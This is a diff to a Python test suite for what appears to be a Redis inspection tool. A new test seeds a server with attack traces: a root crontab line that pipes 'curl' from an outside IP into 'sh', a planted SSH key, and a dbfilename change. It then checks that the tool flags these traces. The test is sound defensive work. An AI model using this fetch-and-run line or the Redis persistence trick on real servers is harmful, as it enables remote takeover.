@@ -37,7 +37,7 @@ def assert_judged(server: Server) -> None:
     assert server.authenticated
     assert server.info["redis_mode"] == "standalone"
     assert server.config is not None
-    assert set(server.config) == {"aclfile", "dir", "save"}
+    assert set(server.config) == {"aclfile", "dir", "dbfilename", "save"}
     assert server.refused == ()
     assert server.login_sent
 
@@ -421,3 +421,28 @@ def test_a_user_that_may_do_little(tmp_path: Path) -> None:
     assert server.info["redis_mode"] == "standalone"
     assert server.config is None
     assert server.refused
+
+
+def test_an_intruders_key_is_named_and_not_shown(tmp_path: Path) -> None:
+    """Whatever it holds stays here; no other key is read."""
+    cron = "\n\n*/2 * * * * root curl -s http://203.0.113.9/hunter2 | sh\n\n"
+    options = ["--port", NUMBER, "--enable-protected-configs", "yes"]
+    with running(tmp_path, *options, ask=("-p", NUMBER)):
+        ask = [program(CLIENTS), "-p", NUMBER]
+        for words in (
+            ("SET", "backup1", cron),
+            ("SET", "crackit", "\nssh-rsa AAAAB3Nza x@y\n"),
+            ("SET", "backup2", "hunter2"),
+            ("RPUSH", "backup3", "hunter2"),
+            ("CONFIG", "SET", "dbfilename", "root"),
+        ):
+            subprocess.run([*ask, *words], check=True, capture_output=True)
+        container = Container(tmp_path, ["redis-server", *options])
+        server = container.looked_at(Redis())
+        said = container.said(Redis())
+    assert server.planted == {"backup1": "the line of a crontab", "crackit": "a key of ssh"}
+    assert server.config is not None
+    assert server.config["dbfilename"] == "root"
+    assert server.number_of("config|set") == 1
+    assert server.modules == ()
+    assert "hunter2" not in "\n".join(said)
